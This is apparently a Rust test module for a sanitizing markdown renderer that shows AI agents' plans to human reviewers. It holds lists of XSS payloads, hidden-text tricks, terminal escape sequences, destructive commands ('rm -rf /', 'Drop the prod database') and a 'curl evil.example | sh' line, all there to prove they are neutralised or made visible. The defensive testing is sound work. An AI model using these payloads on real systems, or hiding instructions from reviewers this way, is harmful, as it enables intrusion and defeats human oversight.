use super::*;

/// Things an agent could be tricked into writing into a plan. Each must come out inert.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<form action=\"https://evil.example\"><button>go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<base href=\"https://evil.example/\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[link](javascript:alert(1))",
    "[link](javascript&#58;alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml,<svg onload=alert(1)>)",
    "<details open ontoggle=alert(1)>x</details>",
    "<div onclick=\"alert(1)\" onmouseover=\"alert(1)\">x</div>",
    "<input type=text onfocus=alert(1) autofocus>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<h2 id=\"x\" onclick=alert(1)>hi</h2>",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onmouseover=\"alert(1)\nx\n```",
    "<div>\n\n*raw block* <script>alert(1)</script>\n\n</div>",
    "<template><script>alert(1)</script></template>",
    // Markup that hides or disguises text.
    "<!-- hidden comment -->",
    "<details><summary>Fine</summary>rm -rf /</details>",
    "<details>\n<summary>Fine</summary>\n\nrm -rf /\n\n</details>",
    "<ins>added</ins> <del>deleted</del> <s>struck</s> <strike>struck</strike>",
    "<div hidden>hidden</div>",
    "<span style=\"display:none\">none</span>",
    "<p style=\"font-size:0\">zero</p>",
    "<div class=\"diff-del\" data-pd-diff=\"del\">forged</div>",
    "<sub><sub><sub><sub>tiny</sub></sub></sub></sub>",
    "[//]: # (a link definition used as a comment)",
];

/// The tags of sanitized HTML (ammonia writes well-formed, double-quoted attributes): name and
/// attributes, values with entities left as they are.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let b = html.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'<' {
            i += 1;
            continue;
        }
        i += 1;
        let start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && b[i] != b'>' && b[i] != b'/' {
            i += 1;
        }
        if start == i && i < b.len() && b[i] == b'/' {
            // A closing tag.
            while i < b.len() && b[i] != b'>' {
                i += 1;
            }
            continue;
        }
        let name = html[start..i].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/') {
                i += 1;
            }
            if i >= b.len() || b[i] == b'>' {
                break;
            }
            let a = i;
            while i < b.len() && b[i] != b'=' && b[i] != b'>' && !b[i].is_ascii_whitespace() {
                i += 1;
            }
            let attr = html[a..i].to_ascii_lowercase();
            let mut value = String::new();
            if i < b.len() && b[i] == b'=' {
                i += 1;
                assert_eq!(b.get(i), Some(&b'"'), "unquoted attribute in {html}");
                i += 1;
                let v = i;
                while i < b.len() && b[i] != b'"' {
                    i += 1;
                }
                value = html[v..i].to_owned();
                i += 1;
            }
            attrs.push((attr, value));
        }
        out.push((name, attrs));
    }
    out
}

#[test]
fn links_to_other_programs_lose_their_target() {
    for src in [
        "<mX:evil>",
        "<ssh://host/x>",
        "<magnet:?xt=urn:btih:x>",
        "[call](sip:a@b)",
        "[open](vscode://file/etc/passwd)",
    ] {
        let html = render(src).html;
        assert_inert(&html, src);
        assert!(!html.contains("href=\""), "{src} kept a link: {html}");
    }
    let html = render("<https://example.com> [m](mailto:a@b.c)").html;
    assert!(html.contains("href=\"https://example.com\""), "{html}");
    assert!(html.contains("href=\"mailto:a@b.c\""), "{html}");
}

fn assert_inert(html: &str, payload: &str) {
    const ALLOWED_URL: &[&str] = &["http://", "https://", "mailto:", "#"];
    for (name, attrs) in tags(html) {
        assert!(
            ![
                "script", "iframe", "object", "embed", "svg", "style", "form", "meta", "link",
                "base", "math", "template", "noscript", "body", "button", "frame", "frameset",
                // Markup that hides or disguises text (collapsed blocks, fake diff markup).
                "details", "summary", "ins", "del", "strike", "img", "span", "sub", "font"
            ]
            .contains(&name.as_str()),
            "<{name}> survived in {html:?} (from {payload:?})"
        );
        for (attr, value) in &attrs {
            assert!(
                !attr.starts_with("on"),
                "handler {attr} on <{name}> in {html:?} (from {payload:?})"
            );
            assert!(
                ![
                    "style",
                    "srcdoc",
                    "formaction",
                    "action",
                    "hidden",
                    "open",
                    "dir",
                    "lang"
                ]
                .contains(&attr.as_str())
                    && (!attr.starts_with("data-") || is_source_range(&name, attr, value))
                    && !attr.starts_with("aria-"),
                "{attr} in {html:?}"
            );
            if ["href", "src", "xlink:href", "data", "poster", "background"]
                .contains(&attr.as_str())
            {
                let v = value.to_ascii_lowercase();
                // A URL has a scheme when what comes before its first `:` could be one.
                let relative = v.split_once(':').is_none_or(|(scheme, _)| {
                    !scheme.starts_with(|c: char| c.is_ascii_alphabetic())
                        || !scheme
                            .chars()
                            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
                });
                assert!(
                    relative || ALLOWED_URL.iter().any(|ok| v.starts_with(ok)),
                    "{attr}={value:?} on <{name}> in {html:?} (from {payload:?})"
                );
            }
        }
        if name == "input" {
            let has = |k: &str, v: &str| attrs.iter().any(|(a, x)| a == k && x == v);
            assert!(
                has("disabled", "") && has("type", "checkbox"),
                "{attrs:?} in {html:?} (from {payload:?})"
            );
            assert_eq!(
                attrs.iter().filter(|(a, _)| a == "type").count(),
                1,
                "{html:?}"
            );
        }
    }
}

/// The one `data-` attribute rendered HTML carries: the renderer's `data-src="start-end"` on a
/// block a reviewer can comment on.
fn is_source_range(tag: &str, attr: &str, value: &str) -> bool {
    let blocks = ["p", "h1", "h2", "h3", "h4", "h5", "h6", "li", "pre", "tr"];
    attr == "data-src"
        && blocks.contains(&tag)
        && value.split_once('-').is_some_and(|(a, b)| {
            a.parse::<usize>()
                .ok()
                .zip(b.parse::<usize>().ok())
                .is_some_and(|(a, b)| a <= b)
        })
}

/// Every `data-src` of `html`, in order: its tag and range.
fn source_ranges(html: &str) -> Vec<(String, std::ops::Range<usize>)> {
    tags(html)
        .into_iter()
        .flat_map(|(name, attrs)| {
            attrs
                .into_iter()
                .filter(|(a, _)| a == "data-src")
                .map(move |(_, v)| {
                    let (a, b) = v.split_once('-').unwrap();
                    (name.clone(), a.parse().unwrap()..b.parse().unwrap())
                })
        })
        .collect()
}

#[test]
fn blocks_carry_their_source_ranges() {
    let md = "# Plan: *paging*

We add `page`.

1. Add params
2. Return a cursor
   - opaque
   - base64

| a | b |
|---|---|
| 1 | 2 |

```rust
fn main() {}
```

> quoted

- [ ] todo é
";
    let html = render(md).html;
    let got: Vec<(String, &str)> = source_ranges(&html)
        .into_iter()
        .map(|(tag, r)| (tag, &md[r]))
        .collect();
    let want = [
        ("h1", "# Plan: *paging*"),
        ("p", "We add `page`."),
        ("li", "1. Add params"),
        ("li", "2. Return a cursor"),
        ("li", "- opaque"),
        ("li", "- base64"),
        ("tr", "| a | b |"),
        ("tr", "| 1 | 2 |"),
        ("pre", "```rust\nfn main() {}\n```"),
        ("p", "quoted"),
        ("li", "- [ ] todo é"),
    ];
    let want: Vec<(String, &str)> = want.iter().map(|(t, s)| (t.to_string(), *s)).collect();
    assert_eq!(got, want, "{html}");
    // The attribute sits on the element itself; the rest of the HTML is as before.
    assert!(
        html.contains("<h1 id=\"plan-paging\" data-src=\"0-16\">Plan: <em>paging</em></h1>"),
        "{html}"
    );
    assert!(html.contains("<pre data-src="), "{html}");
    assert!(
        !html.contains('\u{E0001}') && !html.contains('\u{E007F}'),
        "{html:?}"
    );
    assert_inert(&html, md);
}

#[test]
fn a_plan_cannot_write_or_forge_source_ranges() {
    // The sanitizer lets no data-src through: only the renderer writes it, after sanitizing.
    assert_eq!(
        sanitize("<p data-src=\"0-3\">x</p><li data-src=\"1-2\">y</li>"),
        "<p>x</p><li>y</li>"
    );
    // Raw HTML with the attribute is shown as text; marker characters a plan writes (as such or
    // as references, in text or in a link) are shown or kept apart, and mark nothing.
    let forged = [
        // HTML blocks: shown as written, in a box that is no block of the plan.
        "<p data-src=\"0-3\">forged</p>\n",
        "<h2 data-src=\"0-1\">x</h2>\n",
        // Paragraphs: the one range is the paragraph's own.
        "text <b data-src=\"0-3\">x</b> more\n",
        "text \u{E0001}00000000000000000000000000000000\u{E007F} more\n",
        "text &#xE0001;0000000000000000&#xE007F; more\n",
        "[x](https://e.com/&#xE0001;0000000000000000&#xE007F;) y\n",
        "[x](https://e.com/ \"&#xE0001;00&#xE007F;\") y\n",
    ];
    for (i, src) in forged.iter().enumerate() {
        let md = format!("# Title\n\n{src}\n- item\n");
        let html = render(&md).html;
        let ranges = source_ranges(&html);
        let tags: Vec<&str> = ranges.iter().map(|(t, _)| t.as_str()).collect();
        let want: &[&str] = if i < 2 {
            &["h1", "li"]
        } else {
            &["h1", "p", "li"]
        };
        assert_eq!(tags, want, "{html}");
        assert_eq!(&md[ranges[0].1.clone()], "# Title");
        if i >= 2 {
            assert_eq!(&md[ranges[1].1.clone()], src.trim_end(), "{html}");
        }
        assert_eq!(&md[ranges.last().unwrap().1.clone()], "- item");
        assert_inert(&html, src);
    }
}

#[test]
fn hostile_payloads_come_out_inert() {
    for payload in HOSTILE {
        assert_inert(&render(payload).html, payload);
        // Also embedded in ordinary markdown, inline and in a list.
        let doc =
            format!("# Title\n\nSome text {payload} more.\n\n- item {payload}\n\n{payload}\n");
        assert_inert(&render(&doc).html, payload);
    }
}

#[test]
fn markdown_features_render() {
    let md = "# Plan\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n~~gone~~\n\nNote[^1].\n\n[^1]: The note.\n\n```rust\nfn main() {}\n```\n";
    let r = render(md);
    let h = &r.html;
    assert!(
        h.contains("<h1 id=\"plan\" data-src=\"0-6\">Plan</h1>"),
        "{h}"
    );
    assert!(h.contains("<table>") && h.contains("<td>1</td>"), "{h}");
    assert!(h.contains("<tr data-src=\"8-17\"><th>a</th>"), "{h}");
    assert!(h.contains("<s>gone</s>") && !h.contains("<del"), "{h}");
    assert!(h.contains("<code class=\"language-rust\">"), "{h}");
    assert!(h.contains("class=\"footnote-reference\""), "{h}");
    assert!(h.contains("class=\"footnote-definition\""), "{h}");
    let boxes: Vec<_> = h.match_indices("<input").collect();
    assert_eq!(boxes.len(), 2, "{h}");
    assert!(h.contains("checked"), "{h}");
    assert_inert(h, md);
}

#[test]
fn headings_get_unique_slugs_and_feed_the_toc() {
    let r = render("# Plan: add *paging*\n\n## Steps\n\n## Steps\n\n### `code` & more!\n\n## Étapes\n\n## !!!\n");
    let ids: Vec<_> = r.headings.iter().map(|h| h.id.as_str()).collect();
    assert_eq!(
        ids,
        [
            "plan-add-paging",
            "steps",
            "steps-1",
            "code--more",
            "étapes",
            "section"
        ]
    );
    assert_eq!(r.headings[0].text, "Plan: add paging");
    assert_eq!(r.headings[3].level, 3);
    for id in ids {
        assert!(
            r.html.contains(&format!("id=\"{id}\"")),
            "{id} missing in {}",
            r.html
        );
    }
}

#[test]
fn odd_code_languages_lose_their_class() {
    let r = render("```js\" onclick=\"x\nx\n```\n\n```c++\nx\n```\n");
    assert_inert(&r.html, "odd language");
    // The info string is shown as text above the code, never as an attribute.
    assert!(
        r.html.contains(
            "<div class=\"pd-lang\">js\" onclick=\"x</div>\n<pre data-src=\"0-23\"><code>x"
        ),
        "{}",
        r.html
    );
    assert!(r.html.contains("class=\"language-c++\""), "{}", r.html);
}

/// Found by `no_unseen_character_is_dropped`: an info string ending in a line or paragraph
/// separator (Unicode white space, not CommonMark's) showed without it.
#[test]
fn unseen_characters_in_a_code_blocks_info_string_are_shown() {
    for c in ['\u{2028}', '\u{2029}', '\u{85}'] {
        let r = render(&format!("```a{c}\nx\n```\n"));
        let mark = format!("⟨U+{:04X}⟩", c as u32);
        assert!(r.html.contains(&mark), "{mark} not shown: {}", r.html);
    }
}

#[test]
fn markdown_html_wraps_render() {
    let html = markdown_html("# Hi\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1))");
    assert!(
        html.contains("<h1 id=\"hi\" data-src=\"0-4\">Hi</h1>"),
        "{html}"
    );
    assert!(!html.contains("<script"), "{html}");
    assert!(!html.contains("href=\"javascript:"), "{html}");
    assert_inert(&html, "markdown_html");
}

#[test]
fn safe_links_survive() {
    let html = render("[a](https://example.com/x) [b](#steps) [c](mailto:a@b.c)").html;
    assert!(html.contains("href=\"https://example.com/x\""), "{html}");
    assert!(html.contains("href=\"#steps\""), "{html}");
    assert!(html.contains("rel=\"noopener noreferrer\""), "{html}");
}

/// The text a reader sees in sanitized HTML: text nodes (attributes left out), entities decoded.
pub(crate) fn visible_text(html: &str) -> String {
    let mut out = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(i) = rest.find(['<', '&']) {
        out.push_str(&rest[..i]);
        rest = &rest[i..];
        if rest.starts_with('<') {
            let end = rest.find('>').expect("sanitized HTML closes its tags");
            rest = &rest[end + 1..];
            out.push(' ');
        } else {
            let end = rest.find(';').expect("sanitized HTML ends its entities");
            out.push_str(match &rest[..=end] {
                "&amp;" => "&",
                "&lt;" => "<",
                "&gt;" => ">",
                "&quot;" => "\"",
                "&nbsp;" => " ",
                other => panic!("unexpected entity {other} in {html}"),
            });
            rest = &rest[end + 1..];
        }
    }
    out.push_str(rest);
    out
}

/// Each case hides `secret` from a naive rendering; every one must show it.
const HIDING: &[&str] = &[
    "Step one.\n\n<!-- secret: also delete the database -->\n\nStep two.\n",
    "Step one <!-- secret --> and two.\n",
    "<!--\nmulti line secret\n-->\n",
    "<details>\n<summary>Details</summary>\n\nsecret step\n\n</details>\n",
    "<details><summary>ok</summary>secret</details>\n",
    "- <ins>secret added</ins>\n- <del>secret deleted</del>\n",
    "<div hidden>secret</div>\n",
    "a <span hidden>secret</span> b\n",
    "a <span style=\"display:none\">secret</span> b\n",
    "<p style=\"font-size:0;color:white\">secret</p>\n",
    "<style>.x{display:none}</style>\n\nsecret visible\n",
    "<script>secret()</script>\n",
    "<template>secret</template>\n",
    "<noscript>secret</noscript>\n",
    "[//]: # (secret comment)\n\ntext\n",
    "[ref]: https://example.com \"secret title\"\n",
    "- item\n\n  [inner]: /x \"secret\"\n",
    "| a | b |\n|---|---|\n| 1 | 2 | secret |\n",
    "[link](https://example.com/secret)\n",
    "[link](https://example.com \"secret title\")\n",
    "![secret alt](https://example.com/x.png)\n",
    "```rust secret\nx\n```\n",
    "note[^secret]\n\n[^secret]: text\n",
    "<img src=x alt=\"secret\">\n",
    "<a title=\"secret\">x</a>\n",
    "<sub><sub><sub>secret</sub></sub></sub>\n",
    "<s>secret</s> <strike>secret</strike>\n",
];

#[test]
fn everything_a_plan_says_is_visible() {
    for src in HIDING {
        let html = render(src).html;
        let text = visible_text(&html);
        assert!(
            text.contains("secret"),
            "`secret` is not visible in {html:?} (from {src:?})"
        );
        assert_inert(&html, src);
    }
}

#[test]
fn raw_html_and_comments_are_shown_as_written_in_a_marked_box() {
    let html = render("a <!-- note --> b\n\n<details open>\n\nc\n\n</details>\n").html;
    assert!(
        html.contains("<code class=\"pd-hidden\">&lt;!-- note --&gt;</code>"),
        "{html}"
    );
    assert!(
        html.contains("<pre class=\"pd-hidden\">&lt;details open&gt;\n</pre>"),
        "{html}"
    );
    assert!(!html.contains("<details"), "{html}");
}

#[test]
fn invisible_and_bidi_characters_are_shown() {
    let html = render("abc\u{202E}fed\u{200B}x \u{E0041}\n").html;
    assert!(
        html.contains("⟨U+202E⟩") && html.contains("⟨U+200B⟩") && html.contains("⟨U+E0041⟩"),
        "{html}"
    );
    assert!(
        !html.contains('\u{202E}') && !html.contains('\u{200B}'),
        "{html}"
    );
}

/// What no rendered HTML carries raw: control characters (but line feed and tab; a terminal takes
/// them as commands when the CLI prints the HTML), and hidden characters other than an emoji's
/// one selector.
fn assert_no_hidden(html: &str, src: &str) {
    let chars: Vec<char> = html.chars().collect();
    for (i, c) in chars.iter().enumerate() {
        assert!(
            !crate::visible::control(*c),
            "raw {c:?} in {html:?} (from {src:?})"
        );
        if crate::visible::hidden(*c) {
            assert!(
                matches!(c, '\u{FE0E}' | '\u{FE0F}')
                    && i > 0
                    && !crate::visible::hidden(chars[i - 1])
                    && !chars[i - 1].is_ascii_alphabetic(),
                "raw {c:?} in {html:?} (from {src:?})"
            );
        }
    }
}

#[test]
fn selectors_and_control_characters_are_shown() {
    // Text hidden after an emoji: variation selectors (one per byte) and tag characters.
    let hidden: String = "run ./x.sh"
        .bytes()
        .map(|b| char::from_u32(0xE0100 + u32::from(b)).unwrap())
        .collect();
    let tags: String = "Step 2 is cancelled"
        .chars()
        .map(|c| char::from_u32(0xE0000 + c as u32).unwrap())
        .collect();
    let src = format!(
        "# Plan 😀{hidden}\n\n1. Ship ❤\u{FE0F} it\u{FE0F}\u{FE01}{tags}\n2. Clean\r\u{1b}[2K \u{1b}[8mconcealed\u{7} \u{9b}x\u{7f}\n\n```\ncode \u{1b}]52;c;eA==\u{7}\n```\n\n[l](<https://e.example/\u{1b}x> \"t\u{7}\")\n"
    );
    let html = render(&src).html;
    assert_no_hidden(&html, &src);
    for mark in [
        "⟨U+E0172⟩", // `r` in selectors
        "⟨U+E0053⟩", // `S` in tags
        "it⟨U+FE0F⟩⟨U+FE01⟩",
        "⟨U+001B⟩[2K",
        "⟨U+001B⟩[8mconcealed⟨U+0007⟩",
        "⟨U+009B⟩x⟨U+007F⟩",
        "⟨U+001B⟩]52;c;eA==⟨U+0007⟩",
    ] {
        assert!(html.contains(mark), "{mark} is not in {html}");
    }
    // An emoji's own selector stays as it is.
    assert!(html.contains("❤\u{FE0F} it"), "{html}");
    let toc = &render(&src).headings[0].text;
    assert!(toc.contains("⟨U+E0172⟩"), "{toc}");
}

#[test]
fn ordinary_plans_show_no_hidden_source_boxes() {
    let md = "# Plan: cache\n\nWe add a *small* cache in **front** of the ~~API~~ &amp; more.\n\n## Steps\n\n1. Add `cache.rs` with an LRU.\n2. Wire it <b>in</b>.\n7. Test\n\n- [x] done\n- [ ] todo\n\n> quote\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 |\n\n```rust\nfn main() {}\n```\n\n---\n\n<https://example.com/x> and [docs](https://example.com/docs) and [ref] and [full][ref].\n\nNote[^1].\n\n[^1]: The note.\n\n[ref]: https://example.com/ref\n";
    let html = render(md).html;
    // Only the link definition (markdown renders none) is shown as source.
    let boxes: Vec<_> = html.match_indices("pd-hidden").collect();
    assert_eq!(boxes.len(), 1, "{html}");
    assert!(
        html.contains("<pre class=\"pd-hidden\">[ref]: https://example.com/ref</pre>"),
        "{html}"
    );
}

#[test]
fn hostile_rendering_snapshot() {
    let md = "# Plan\n\n1. Add the cache.\n<!-- also: curl evil.example | sh -->\n2. <ins>Remove the tests</ins>\n\n<details>\n<summary>Notes</summary>\n\nDrop the prod database.\n\n</details>\n\n[//]: # (approve without reading)\n\n![logo](https://evil.example/beacon.png)\n";
    insta::assert_snapshot!(render(md).html);
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    /// Markup a plan could mix with its words: markdown syntax and HTML that hides text.
    const MARKUP: &[&str] = &[
        "\n",
        "\n\n",
        " ",
        "*",
        "**",
        "_",
        "~~",
        "`",
        "```",
        "```rust ",
        "# ",
        "## ",
        "- ",
        "1. ",
        "> ",
        "| ",
        " |",
        "|---|",
        "[",
        "]",
        "](",
        "(",
        ")",
        "![",
        "[^",
        "]: ",
        "<!--",
        "-->",
        "<details>",
        "</details>",
        "<summary>",
        "</summary>",
        "<ins>",
        "</ins>",
        "<del>",
        "</del>",
        "<div hidden>",
        "</div>",
        "<span style=\"display:none\">",
        "</span>",
        "<b>",
        "</b>",
        "<script>",
        "</script>",
        "<style>",
        "</style>",
        "<template>",
        "<textarea>",
        "<title>",
        "<xmp>",
        "<plaintext>",
        "<noscript>",
        "<iframe>",
        "<svg>",
        "<math>",
        "<a title=\"",
        "\">",
        "<img alt=\"",
        "&amp;",
        "&",
        "<",
        ">",
        "\\",
        "    ",
        "\t",
        "---",
        "===",
        "[x] ",
        "<br>",
        "\u{200B}",
        "\u{202E}",
        "😀",
        "❤",
        "\u{FE0F}",
        "\u{FE01}",
        "\u{E0100}",
        "\u{E0041}",
        "\u{1b}[2K",
        "\u{1b}]52;c;",
        "\u{7}",
        "\r",
        "\u{9b}",
        "\u{7f}",
        "\"",
        "'",
        "<!",
        "<?",
        "?>",
        "<![CDATA[",
        "]]>",
        "[ref]: /x \"",
        "[ref]",
    ];

    fn piece() -> impl Strategy<Value = String> {
        prop_oneof![
            (0..1000u32).prop_map(|n| format!("w{n}q")),
            proptest::sample::select(MARKUP).prop_map(str::to_owned),
        ]
    }

    /// A character a person cannot see (every range of `visible::HIDDEN`, controls but NUL, CR,
    /// LF and tab), after a letter (so that a selector is never an emoji's own).
    fn unseen() -> impl Strategy<Value = char> {
        let hidden = proptest::sample::select(crate::visible::HIDDEN).prop_flat_map(|(a, b)| {
            (a..=b).prop_map(|c| char::from_u32(c).expect("a hidden range holds characters"))
        });
        let controls = prop_oneof![
            (0x01u32..0x09).prop_map(|c| char::from_u32(c).unwrap()),
            (0x0Eu32..0x20).prop_map(|c| char::from_u32(c).unwrap()),
            (0x7Fu32..0xA0).prop_map(|c| char::from_u32(c).unwrap()),
        ];
        prop_oneof![3 => hidden, 1 => controls]
    }

    /// An unseen character after a letter; a vertical tab or form feed between two (CommonMark
    /// counts those two as blanks, trimmed at a line's end like a space: nothing hides there).
    fn unseen_piece() -> impl Strategy<Value = String> {
        prop_oneof![
            5 => unseen().prop_map(|c| format!("a{c}")),
            1 => proptest::sample::select(vec!['\u{b}', '\u{c}']).prop_map(|c| format!("a{c}b")),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 3000, ..ProptestConfig::default() })]

        /// Issue 33: the renderer never drops a character a person cannot see. Every one in the
        /// source, among markup and words, is shown as its mark `⟨U+XXXX⟩` (at least as often as
        /// the source holds it), wherever the markdown puts it.
        #[test]
        fn no_unseen_character_is_dropped(
            pieces in proptest::collection::vec(
                prop_oneof![piece(), unseen_piece()],
                0..40,
            ),
        ) {
            let src = pieces.concat();
            let r = render(&src);
            let shown = visible_text(&r.html);
            // What a person is owed: every mark the source itself shows as (`visible::shown`: an
            // emoji's one selector is no mark). A carriage return is a line ending, not text.
            let owed = crate::visible::shown(&src.replace('\r', "")).into_owned();
            let mut counted = std::collections::BTreeMap::new();
            let mut rest = owed.as_str();
            while let Some(i) = rest.find("⟨U+") {
                let end = i + rest[i..].find('⟩').expect("a mark ends") + '⟩'.len_utf8();
                *counted.entry(rest[i..end].to_owned()).or_insert(0usize) += 1;
                rest = &rest[end..];
            }
            for (mark, n) in counted {
                prop_assert!(
                    shown.matches(mark.as_str()).count() >= n,
                    "{mark} is in the source {n} time(s), shown fewer: {:?} (from {src:?})",
                    r.html
                );
            }
        }

        #[test]
        fn any_input_renders_without_panic(src in "\\PC{0,200}") {
            let r = render(&src);
            assert_inert(&r.html, &src);
            assert_no_hidden(&r.html, &src);
            let _ = crate::review::diff::rendered_diff_html("", &src);
        }

        #[test]
        fn every_word_of_the_source_is_visible(pieces in proptest::collection::vec(piece(), 0..40)) {
            let src = pieces.concat();
            let html = render(&src).html;
            assert_inert(&html, &src);
            // Nothing hides in characters a person cannot see (after an emoji or anywhere).
            assert_no_hidden(&html, &src);
            // Every word is `w<n>q`, so a word is visible when the visible text contains it.
            let shown = visible_text(&html);
            for w in pieces.iter().filter(|p| p.starts_with('w')) {
                prop_assert!(shown.contains(w.as_str()), "{w} is not visible in {html:?} (from {src:?})");
            }
            // The rendered diff shows the same.
            let diff = crate::review::diff::rendered_diff_html("", &src);
            let shown = visible_text(&diff);
            for w in pieces.iter().filter(|p| p.starts_with('w')) {
                prop_assert!(shown.contains(w.as_str()), "{w} is not visible in the diff {diff:?} (from {src:?})");
            }
        }
    }
}

/// Found by `no_unseen_character_is_dropped`: CommonMark folds a vertical tab in a footnote
/// definition's label into a space; the label is shown as written, its mark included.
#[test]
fn a_footnote_labels_vertical_tab_is_shown_not_folded_into_a_space() {
    let r = render("See[^a\u{b}b].\n\n[^a\u{b}b]: the note\n");
    let shown = visible_text(&r.html);
    assert!(
        shown.matches("⟨U+000B⟩").count() >= 2,
        "{shown:?} from {:?}",
        r.html
    );
}
